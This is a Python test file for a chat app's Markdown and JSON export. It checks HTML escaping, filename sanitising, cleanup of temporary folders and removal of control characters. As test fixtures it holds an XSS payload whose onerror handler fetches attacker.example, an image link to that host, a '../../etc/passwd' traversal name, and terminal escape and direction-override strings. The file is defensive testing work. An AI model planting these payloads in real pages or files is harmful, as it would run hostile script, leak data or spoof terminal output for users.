"""Exports: the Markdown renders nothing a message says as HTML, the files keep the whole title as
their name, and no export leaves a temporary folder behind."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from test_rendering import loads_something, rendered

from specchat.app import exports
from specchat.app.conversation import Conversation, to_markdown
from specchat.app.exports import file_stem, write_export
from specchat.core.errors import InputError

PAYLOAD = '<script>alert(1)</script><img src=x onerror="fetch(\'https://attacker.example\')">'


def chat(title: str = "Report questions", text: str = "answer") -> Conversation:
    document = {"name": f"{PAYLOAD}.pdf", "text": f"{PAYLOAD}\n````\n{PAYLOAD}", "tokens": 9, "note": ""}
    return Conversation(id="0" * 32, title=title, created=1.7e9, updated=1.7e9, system=f"Be brief.\n{PAYLOAD}",
                        messages=[{"role": "user", "content": f"What is {PAYLOAD}?", "document": document},
                                  {"role": "assistant", "content": f"{text} {PAYLOAD} ![x](https://attacker.example/i)",
                                   "partial": False, "stats": None, "origins": None}])


def test_the_markdown_export_is_inert_when_rendered():
    markdown = to_markdown(chat(title=f"Title {PAYLOAD}"))
    html = rendered(markdown)
    assert not loads_something(markdown), html
    assert "<script" not in html and "onerror" not in html.replace("onerror=&quot;", "")
    # Everything is still there, as text: the title, the prompt, the question, the document, the answer.
    assert markdown.startswith("# Title &lt;script>alert(1)&lt;/script>&lt;img src=x onerror=")
    assert "> Be brief.\n> &lt;script>" in markdown
    # The title, the prompt, the document name and its text (twice), the question, the answer.
    assert html.count("&lt;script&gt;alert(1)&lt;/script&gt;") == 7
    assert "[image: x](https://attacker.example/i)" in markdown
    assert "<details><summary>📎 &lt;script&gt;" in markdown  # the fold itself stays HTML


def test_an_export_writes_both_files_named_after_the_whole_title(tmp_path):
    title = "Résumé: what does section 4.2 of the licence require of redistributors?"
    paths = write_export(chat(title=title))
    assert [Path(path).name for path in paths] == [
        "Résumé-what-does-section-4.2-of-the-licence-require-of-redistributors.md",
        "Résumé-what-does-section-4.2-of-the-licence-require-of-redistributors.json"]
    assert Path(paths[0]).read_text(encoding="utf-8") == to_markdown(chat(title=title))
    assert json.loads(Path(paths[1]).read_text(encoding="utf-8"))["title"] == title


def test_file_stems():
    assert file_stem("???") == file_stem("") == file_stem("...") == "conversation"
    assert file_stem("../../etc/passwd") == "etc-passwd"
    assert file_stem(".hidden") == "hidden"
    assert file_stem("CON") == "CON-" and file_stem("nul.txt") == "nul.txt-"
    assert file_stem("東京 の 会議") == "東京-の-会議"
    long = file_stem("長" * 300)
    assert len(long.encode()) <= 200 and long == "長" * 66


def test_exports_replace_the_previous_one_in_one_folder():
    first = write_export(chat(title="First"))
    second = write_export(chat(title="Second"))
    folder = Path(second[0]).parent
    assert Path(first[0]).parent == folder
    assert sorted(path.name for path in folder.iterdir()) == ["Second.json", "Second.md"]


def test_an_empty_conversation_is_not_exported():
    empty = chat()
    empty.messages = []
    for conversation in (None, empty):
        try:
            write_export(conversation)
        except InputError as error:
            assert str(error) == "nothing to export yet: this conversation is empty"
        else:
            raise AssertionError("exported an empty conversation")


EXPORTER = """
from specchat.app.conversation import Conversation
from specchat.app.exports import write_export

conversation = Conversation(id="0" * 32, title="t", created=0.0, updated=0.0,
                            messages=[{"role": "user", "content": "Hi", "document": None}])
for _ in range(3):
    print(write_export(conversation)[0])
"""


def test_no_folder_is_left_behind_at_exit(tmp_path):
    completed = subprocess.run([sys.executable, "-c", EXPORTER], capture_output=True, text=True, timeout=120,
                               env={**os.environ, "TMPDIR": str(tmp_path)})
    assert completed.returncode == 0, completed.stderr
    written = completed.stdout.split()
    assert len(written) == 3 and len({str(Path(path).parent) for path in written}) == 1
    assert Path(written[0]).is_relative_to(tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_a_folder_removed_under_it_is_made_again():
    import shutil

    shutil.rmtree(exports.export_folder())
    assert Path(write_export(chat())[0]).is_file()


def test_exports_carry_no_control_character_nor_direction_override(tmp_path):
    # Found: the export kept right-to-left overrides and control characters: printed with `cat`,
    # the file could retitle the terminal or show a line other than the one written.
    unsafe = "\x1b]0;owned\x07\u202egnp.exe\u202c\x9b2J\x7f"
    conversation = chat(title=f"Title {unsafe}", text=f"answer {unsafe}")
    markdown, record = (Path(path).read_text(encoding="utf-8") for path in write_export(conversation))
    for text in (markdown, record):
        assert not any(character in text for character in "\x1b\x07\u202e\u202c\x9b\x7f")
    assert "answer ]0;ownedgnp.exe2J" in markdown
    assert json.loads(record)["messages"][1]["content"].startswith(f"answer {unsafe}")  # the record loses nothing
